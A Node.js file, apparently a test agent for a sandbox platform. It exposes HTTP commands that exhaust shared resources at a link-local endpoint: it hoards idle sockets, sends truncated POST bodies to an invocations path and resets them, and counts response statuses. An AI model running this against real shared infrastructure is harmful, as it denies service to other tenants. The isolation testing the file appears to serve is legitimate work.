// An agent for attacks: it takes all of what the platform shares among sandboxes.
import { once } from 'node:events';
import { createServer, get } from 'node:http';
import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';

const DOOR = { host: '169.254.170.2', port: 80 };
/** Connections that stay open as long as the sandbox. */
const held = new Set();

const acts = {
  /** Opens connections that say nothing; how many of them the platform left open. */
  async hoard({ count }) {
    const opened = Array.from({ length: count }, async () => {
      const socket = connect(DOOR).resume();
      socket.on('error', () => undefined);
      socket.once('close', () => held.delete(socket));
      held.add(socket);
      await Promise.race([once(socket, 'connect'), once(socket, 'close')]);
    });
    await Promise.allSettled(opened);
    return { held: held.size };
  },
  held: () => ({ held: held.size }),
  /** A request that is cut within its body and reset, so long after it was sent; how many were. */
  async cut({ pauses }) {
    const head = [
      'POST /runtimes/zz/invocations HTTP/1.1',
      'host: x',
      'authorization: Bearer x',
      'content-length: 70000',
    ];
    let cut = 0;
    for (const pause of pauses) {
      const socket = connect(DOOR).on('error', () => undefined);
      await once(socket, 'connect');
      await new Promise((resolve) => socket.write(`${head.join('\r\n')}\r\n\r\na`, resolve));
      await sleep(pause);
      socket.resetAndDestroy();
      cut += 1;
    }
    return { cut };
  },
  /** Requests one after the other on one connection each; how often each status came. */
  async ask({ count = 1, path = '/' }) {
    const statuses = {};
    for (let asked = 0; asked < count; asked += 1) {
      const status = await new Promise((resolve) => {
        get({ ...DOOR, path, agent: false, timeout: 5000 }, (res) => resolve(res.resume().statusCode))
          .on('timeout', (request) => request.destroy())
          .on('error', (error) => resolve(error.code));
      });
      statuses[status] = (statuses[status] ?? 0) + 1;
    }
    return statuses;
  },
};

createServer(async (req, res) => {
  res.setHeader('content-type', 'application/json');
  if (req.url === '/ping') return res.end('{"status":"Healthy"}');
  const parts = await req.toArray();
  const { do: act, ...rest } = JSON.parse(Buffer.concat(parts).toString());
  res.end(JSON.stringify(await acts[act](rest)));
}).listen(8080, '0.0.0.0');
